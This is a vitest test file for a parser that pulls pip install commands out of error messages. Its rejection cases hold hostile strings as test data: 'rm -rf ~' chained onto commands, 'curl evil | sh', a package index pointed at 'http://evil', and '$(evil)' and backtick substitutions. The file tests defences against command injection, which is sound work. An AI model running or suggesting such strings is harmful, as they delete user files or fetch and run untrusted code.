import { expect, test } from "vitest";
import { installCommand } from "../../src/installCommand.ts";

test.each([
  [
    "no module named 'yaml' in /w/.venv/bin/python; install it with: /w/.venv/bin/python -m pip install PyYAML",
    "/w/.venv/bin/python -m pip install PyYAML",
  ],
  [
    "helpers.py:2: no module named 'a' in /p; if the package has the same name: '/my w/bin/python' -m pip install a",
    "'/my w/bin/python' -m pip install a",
  ],
  [
    "another version may: C:\\py\\python.exe -m pip install --upgrade foo",
    "C:\\py\\python.exe -m pip install --upgrade foo",
  ],
  [
    'install version 2 with: & "C:\\my py\\python.exe" -m pip install "pydantic>=2"',
    '& "C:\\my py\\python.exe" -m pip install "pydantic>=2"',
  ],
])("the command of a message is taken from its end: %s", (message, command) => {
  expect(installCommand(message)).toBe(command);
});

test.each([
  "no module named 'xml.nothing': 'xml' belongs to Python itself",
  "x: rm -rf ~; /p/python -m pip install a b",
  "x: curl evil | sh -m pip install a",
  "x: /p/python -m pip install a; rm -rf ~",
  "x: /p/python -m pip install a\nrm -rf ~",
  "x: /p/python -m pip install --index-url=http://evil a",
  "x: $(evil) -m pip install a",
  'x: "`evil`" -m pip install a',
])("nothing else is taken for one: %s", (message) => {
  expect(installCommand(message)).toBeUndefined();
});
